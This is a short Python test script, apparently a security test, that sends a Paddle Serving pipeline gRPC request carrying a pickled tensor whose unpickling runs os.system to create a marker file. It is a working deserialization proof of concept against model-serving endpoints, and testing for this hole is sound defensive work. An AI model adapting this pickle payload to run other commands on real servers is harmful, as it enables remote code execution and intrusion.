"""A pickled request tensor (elem_type 13) whose unpickling would create MARKER.

    python -m tests.pipeline_attack URL MARKER     # sends it over gRPC, prints the reply as JSON
"""
import json
import os
import pickle
import sys


class Payload:
    """Unpickling this runs `touch MARKER`."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def main() -> None:
    from serving_core.paddle_serving_compat import prepare

    prepare()  # before protobuf is imported
    import grpc
    from paddle_serving_server.pipeline.proto import pipeline_service_pb2, pipeline_service_pb2_grpc

    url, marker = sys.argv[1], sys.argv[2]
    request = pipeline_service_pb2.Request(key=["text"], value=[json.dumps(["打开空调"], ensure_ascii=False)])
    tensor = request.tensors.add(name="text_tensor", elem_type=13, byte_data=pickle.dumps(Payload(marker)))
    tensor.shape.append(1)
    stub = pipeline_service_pb2_grpc.PipelineServiceStub(grpc.insecure_channel(url))
    reply = stub.inference(request, timeout=60)
    print(json.dumps({"err_no": reply.err_no, "err_msg": reply.err_msg}))


if __name__ == "__main__":
    main()
